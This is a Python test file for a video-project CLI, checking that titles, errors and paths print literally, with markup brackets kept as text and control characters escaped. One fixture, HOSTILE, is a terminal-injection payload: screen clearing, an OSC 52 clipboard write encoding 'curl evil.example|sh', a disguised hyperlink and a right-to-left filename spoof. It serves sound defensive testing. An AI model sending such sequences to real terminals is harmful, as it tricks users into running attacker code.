"""``reelflow`` prints a title, an error message or a path as it was sent: brackets in them are
text, never terminal markup (which would drop them, restyle the line, or stop the command),
and a character a terminal would act on is shown as its escape, never sent to the terminal."""

from __future__ import annotations

import io
from pathlib import Path

import httpx
import pytest
from rich.console import Console

import reelflow_cli.app as cli
from reelflow_cli.project import ClipState, ProjectState
from reelflow_cli.render import ClipLines, project_list
from tests.unit.cli_runner import invoke

PROJECT_ID = "3f6c1a2e-51e0-4b88-9c1a-2d3e4f5a6b7c"
TASK = "c4738360-4dd8-4bad-84cd-fee2adfe0abc"
#: closes a tag no one opened (markup would refuse it), then opens one
TITLE = "Act [/] two [bold red]of three"
MESSAGE = "prompt rejected: [blocked] words [/b]"

PROJECT = {
    "project_id": PROJECT_ID,
    "title": TITLE,
    "status": "failed",
    "completed": 0,
    "pending": 0,
    "failed": 1,
    "total_clips": 1,
    "results": [
        {
            "scene_index": 0,
            "task_uuid": TASK,
            "status": "failed",
            "error": {"code": "providerError", "message": MESSAGE},
        }
    ],
}


def test_get_shows_the_title_and_the_error_as_sent(monkeypatch: pytest.MonkeyPatch) -> None:
    result = invoke(monkeypatch, httpx.Response(200, json=PROJECT), "get", PROJECT_ID)

    assert result.exit_code == 0, result.stderr
    assert TITLE in result.stdout
    assert f"{MESSAGE} (providerError)" in result.stdout


def test_list_shows_the_title_as_sent() -> None:
    out = io.StringIO()
    item = PROJECT | {"title": "[/] [x]", "created_at": "2026-12-04T10:11:12Z"}
    project_list(Console(file=out, width=200), {"items": [item]})

    assert "[/] [x]" in out.getvalue()


def test_a_refusal_is_printed_as_the_api_said_it(monkeypatch: pytest.MonkeyPatch) -> None:
    refusal = httpx.Response(
        409,
        json={"status": 409, "title": "Conflict", "detail": "project [/] is [b]busy"},
        headers={"content-type": "application/problem+json"},
    )

    result = invoke(monkeypatch, refusal, "get", PROJECT_ID)

    assert result.exit_code != 0
    assert "project [/] is [b]busy" in result.stderr


def test_lines_of_a_watched_clip_show_its_error_as_sent() -> None:
    out = io.StringIO()
    state = ProjectState(project_id=PROJECT_ID, title=TITLE)
    state.clips[0] = ClipState(task_uuid=TASK, scene_index=0, status="failed", error=MESSAGE)

    ClipLines(Console(file=out, width=200)).show({}, state, changed=True)

    assert out.getvalue().splitlines() == [f"scene 0: failed {MESSAGE}"]


def test_a_saved_files_path_is_printed_as_it_is(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    folder = tmp_path / "[/]takes"
    done = PROJECT | {
        "status": "completed",
        "results": [
            {
                "scene_index": 0,
                "task_uuid": TASK,
                "status": "success",
                "video_url": "https://vm.runware.ai/video/x.mp4",
            }
        ],
    }
    monkeypatch.setattr(cli, "download", lambda url, target: 3)

    result = invoke(
        monkeypatch, httpx.Response(200, json=done), "download", PROJECT_ID, str(folder)
    )

    assert result.exit_code == 0, result.stderr
    assert f"saved {folder / f'scene-00-{TASK}.mp4'} (3 bytes)" in result.stdout.replace("\n", "")


def test_a_long_line_stays_one_line_in_a_pipe(monkeypatch: pytest.MonkeyPatch) -> None:
    title = "A very long title " * 8
    project = PROJECT | {"title": title, "results": []}

    result = invoke(monkeypatch, httpx.Response(200, json=project), "get", PROJECT_ID)

    assert result.exit_code == 0, result.stderr
    [summary] = [line for line in result.stdout.splitlines() if PROJECT_ID in line]
    assert summary.startswith(title)
    assert summary.endswith("of 1")


#: an attacker's walkthrough: a title that clears the screen, writes the clipboard (OSC 52:
#: ``curl evil.example|sh``), opens a hyperlink, and reverses the text after it
HOSTILE = (
    "Q4\x1b[2J\x1b[H\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2gK\x1b\\ \x9b31m"
    "\x1b]8;;http://evil.example\x1b\\click\u202e txt.exe"
)
HOSTILE_SHOWN = (
    "Q4\\x1b[2J\\x1b[H\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2gK\\x1b\\ \\x9b31m"
    "\\x1b]8;;http://evil.example\\x1b\\click\\u202e txt.exe"
)


def acted_on(text: str) -> list[str]:
    return [c for c in text if (ord(c) < 0x20 and c not in "\n\t") or 0x7F <= ord(c) <= 0x9F]


def test_list_shows_a_hostile_title_escaped_and_sends_no_control_character() -> None:
    out = io.StringIO()
    item = PROJECT | {"title": HOSTILE, "created_at": "2026-12-04T10:11:12Z"}
    project_list(Console(file=out, width=400), {"items": [item]})

    assert acted_on(out.getvalue()) == []
    assert "Q4\\x1b[2J" in out.getvalue()


def test_get_and_watch_show_a_hostile_title_and_error_escaped(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    failed = {"scene_index": 0, "task_uuid": TASK, "status": "failed"}
    error = {"code": "x", "message": HOSTILE}
    hostile = PROJECT | {"title": HOSTILE, "results": [failed | {"error": error}]}
    result = invoke(monkeypatch, httpx.Response(200, json=hostile), "get", PROJECT_ID)
    assert result.exit_code == 0, result.stderr
    assert acted_on(result.stdout) == []
    assert HOSTILE_SHOWN in result.stdout.replace("\n", "")

    out = io.StringIO()
    state = ProjectState(project_id=PROJECT_ID, title=HOSTILE)
    state.clips[0] = ClipState(task_uuid=TASK, scene_index=0, status="failed", error=HOSTILE)
    ClipLines(Console(file=out, width=400)).show({}, state, changed=True)
    assert out.getvalue().splitlines() == [f"scene 0: failed {HOSTILE_SHOWN}"]
